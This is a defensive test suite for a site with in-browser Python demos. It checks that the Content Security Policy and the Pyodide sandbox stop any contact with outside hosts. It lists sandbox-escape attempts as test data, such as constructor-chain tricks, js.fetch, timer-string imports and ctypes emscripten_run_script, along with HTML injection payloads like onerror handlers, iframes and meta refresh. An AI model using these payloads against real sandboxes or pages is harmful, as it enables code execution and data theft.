"""What a page may load, and what a reader's Python may reach: nothing from other hosts."""

import re
from contextlib import closing
from http.server import BaseHTTPRequestHandler
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Error, expect

from tests.support import header_host, static_host
from tests.support.header_host import HOSTS
from tests.support.live_demos import ATTENTION, GUIDES, both_languages, start
from tests.support.visits import Visits


@pytest.fixture(scope="module", params=HOSTS)
def server(site, request):
    """Every test here runs on a host that sends no headers of its own, and on one that sends those of _headers."""
    with HOSTS[request.param](site) as address:
        yield address


@pytest.fixture
def stranger():
    """Another host, which notes every request that reaches it."""
    asked = []

    class Count(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    with static_host.serving(Count) as address:
        yield SimpleNamespace(asked=asked, port=urlsplit(address).port, address=address.replace("127.0.0.1", "localhost"))


@pytest.fixture(scope="module")
def tab(browser):
    with browser.new_context() as context:
        yield context.new_page()


@pytest.fixture
def page(tab, server):
    """A page for attacks, loaded anew in one tab. Unlike `visit`, it allows errors in the console and requests to other hosts."""
    tab.goto(server + "about/")
    return tab


@pytest.fixture
def visits(browser, site):
    """Visits of a host with headers. Their check fails at any error in the console, and a violation is one.

    The same is checked on a plain host where test_axe.py visits every page, and the live demos with all that can be opened.
    """
    with header_host.serve(site) as address, closing(Visits(browser, address)) as opened:
        yield opened
        opened.check()


@both_languages
def test_a_page_keeps_its_own_policy_and_that_of_its_host_idle_and_live(visits, language):
    page = visits.open(GUIDES[language])
    page.evaluate("addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective, event.blockedURI))")
    for name in ("chatbot", "attention"):
        start(page, name)
    for details in page.locator("live-demo details:not([data-part]) > summary").all():
        if details.is_visible():
            details.click()
    page.wait_for_load_state("networkidle")


def test_every_other_page_keeps_its_policy_and_that_of_its_host(visits, addresses):
    first_page = visits.open("")
    context, home = first_page.context, first_page.url
    # Each page has to be quiet for half a second: several wait for that at the same time.
    tabs = [context.new_page() for _ in range(8)]
    for first in range(0, len(addresses), len(tabs)):
        shown = list(zip(tabs, addresses[first:], strict=False))
        for tab, address in shown:
            tab.goto(home + address)
        for tab, _ in shown:
            tab.wait_for_load_state("networkidle")


@pytest.mark.parametrize(
    "markup, directive",
    [
        ('<img src="{stranger}x.png">', "img-src"),
        ('<iframe src="{stranger}"></iframe>', "frame-src"),
        ('<link rel="stylesheet" href="{stranger}x.css">', "style-src-elem"),
        ('<video src="{stranger}x.mp4"></video>', "media-src"),
        ('<object data="{stranger}x"></object>', "object-src"),
        ('<img src="nowhere.png" onerror="document.title = \'owned\'">', "script-src-attr"),
    ],
)
def test_markup_that_would_load_or_run_something_is_refused(page, stranger, markup, directive):
    refused = page.evaluate(
        """markup => new Promise(resolve => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
            // DOMPurify's policy lets every HTML through: it is a test of what stands behind.
            const policy = trustedTypes.createPolicy("dompurify", { createHTML: (html) => html });
            document.body.insertAdjacentHTML("beforeend", policy.createHTML(markup));
        })""",
        markup.format(stranger=stranger.address),
    )
    assert refused == directive
    assert page.title() != "owned"
    assert stranger.asked == []


def test_a_script_of_another_host_is_refused(page, stranger):
    script = "address => new Promise(resolve => { const script = document.createElement('script'); script.onerror = () => resolve('refused'); script.onload = () => resolve('ran'); try { script.src = address; document.head.append(script); } catch { resolve('refused'); } })"
    assert page.evaluate(script, stranger.address) == "refused"
    assert stranger.asked == []


# Each puts what it reached into `got`, or is stopped by an exception.
ATTACKS = {
    "fetch": "import js\ngot = js.fetch('{stranger}')",
    "XMLHttpRequest": "import js\nrequest = js.XMLHttpRequest.new()\nrequest.open('GET', '{stranger}', False)\ngot = request.send()",
    "import from js": "from js import fetch\ngot = fetch('{stranger}')",
    "the page": "import js\ngot = js.postMessage('hello')",
    "self": "import js\ngot = js.self",
    "globalThis": "import js\ngot = js.globalThis",
    "document": "import js\ngot = js.document",
    "indexedDB": "import js\ngot = js.indexedDB",
    "caches": "import js\ngot = js.caches",
    "BroadcastChannel": "import js\ngot = js.BroadcastChannel.new('x')",
    "eval": "from pyodide.code import run_js\ngot = run_js('1 + 1')",
    "js.eval": "import js\ngot = js.eval('1 + 1')",
    "a timer with text": "import js\ngot = js.setTimeout('import(\"{stranger}\")', 0)",
    "the wrapper of timers": "from pyodide.ffi.wrappers import setTimeout\ngot = setTimeout('import(\"{stranger}\")', 0)",
    "a constructor": "import js\ngot = js.setTimeout.constructor('return globalThis')()",
    "another constructor": "import js\ngot = js.constructor.constructor('return import(\"{stranger}\")')()",
    "a prototype's constructor": "import pyodide_js\ngot = pyodide_js.runPython.constructor.prototype.constructor('return globalThis')()",
    "the constructor of async functions": "import pyodide_js\ngot = pyodide_js.loadPackage.constructor('return import(\"{stranger}\")')()",
    "pyfetch": "from pyodide.http import pyfetch\ncoroutine = pyfetch('{stranger}')\ngot = coroutine.send(None)",
    "open_url": "from pyodide.http import open_url\ngot = open_url('{stranger}')",
    "urllib": "import urllib.request\ngot = urllib.request.urlopen('{stranger}', timeout=2)",
    "sockets": "import socket\ngot = socket.create_connection(('localhost', {port}), timeout=2)",
    "the browser's files": "import pyodide_js\ngot = pyodide_js._module.FS.filesystems.IDBFS.indexedDB().open('x')",
}


@pytest.fixture(scope="module")
def python(browser, server):
    """run(code) runs code in the demo of one page, and returns the error message that the reader sees."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server + GUIDES["en"])
    page.evaluate(
        """async () => {
            const { src } = document.querySelector("script[src$='/live-demo.js']");
            const { interpreter } = await import(new URL("../python/interpreter.js", src).href);
            const data = document.querySelector("live-demo[name=attention] > script").textContent;
            globalThis.runCode = async (code) => {
                const request = { demo: "attention", language: "en", state: JSON.parse(data).state, events: [{ name: "code", value: code }] };
                return (await interpreter.call(request)).html;
            };
        }"""
    )

    def run(code):
        html = page.evaluate("code => runCode(code)", code)
        return BeautifulSoup(html, "html.parser").select_one("[data-error-line]").get_text(" ", strip=True)

    run.page = page
    yield run
    context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_a_readers_python_reaches_no_other_host(python, stranger, name):
    code = ATTACKS[name].format(stranger=stranger.address, port=stranger.port)
    told = python(f"{code}\nraise RuntimeError('GOT IN ' + repr(got))")
    # The line of the attack raised an error.
    assert "GOT IN" not in told, told
    assert re.search(r"(Error|Exception): ", told), told
    python.page.wait_for_load_state("networkidle")
    assert stranger.asked == []


def test_a_script_given_to_emscripten_ends_the_interpreter_and_runs_nothing(python, stranger):
    attack = f"import ctypes\nctypes.CDLL(None).emscripten_run_script(b'import(\"{stranger.address}\")')"
    with pytest.raises(Error, match="PythonError: ReferenceError: eval is not defined"):
        python(attack)
    assert "the next one" in python("raise RuntimeError('the next one')")
    assert stranger.asked == []


def test_what_is_left_to_a_readers_python_still_computes(python):
    answer = python(
        "import asyncio, hashlib, json, os, random, re, secrets, time\n"
        "import numpy as np\n"
        "np.linalg.svd(np.ones((3, 3))); os.urandom(4); secrets.token_hex(); time.time(); random.random()\n"
        "raise RuntimeError('all there')"
    )
    assert "all there" in answer, answer


def test_what_a_readers_python_draws_stays_inside_its_demo(page, server, stranger):
    drawn = (
        f'<meta http-equiv="refresh" content="0;url={stranger.address}"><style>body {{ display: none }}</style>'
        f'<link rel="stylesheet" href="{stranger.address}"><div><iframe src="{stranger.address}"></iframe></div>'
        f'<img src="{stranger.address}" onerror="document.title = 1"><form action="{stranger.address}"><button>x</button></form>'
        '<p id="cover" class="cover" style="position: fixed; inset: 0">drawn</p>'
    )
    page.goto(server + ATTENTION["en"])
    demo = start(page, "attention")
    demo.locator(".code summary").click()
    editor = demo.locator(".code-editor textarea")
    editor.fill(f"import demos.attention\ndemos.attention.render = lambda *_: {drawn!r}")
    demo.locator(".code button[type=submit], .code form button:not([type=button])").first.click()
    # The code replaces render() for the next picture.
    demo.locator("input[name=sentence]").fill("The dog saw the man")
    cover = page.locator(".cover")
    expect(cover).to_have_text("drawn")
    assert demo.locator("meta, style, link, iframe, img, [id], [action], [data-part=stage] [style]").count() == 0
    inner, outer = cover.bounding_box(), demo.bounding_box()
    assert inner["y"] >= outer["y"] and inner["height"] <= outer["height"]
    demo.locator("form button", has_text="x").evaluate("button => button.click()")
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(server + ATTENTION["en"]) and page.title() != "1"
    assert stranger.asked == []
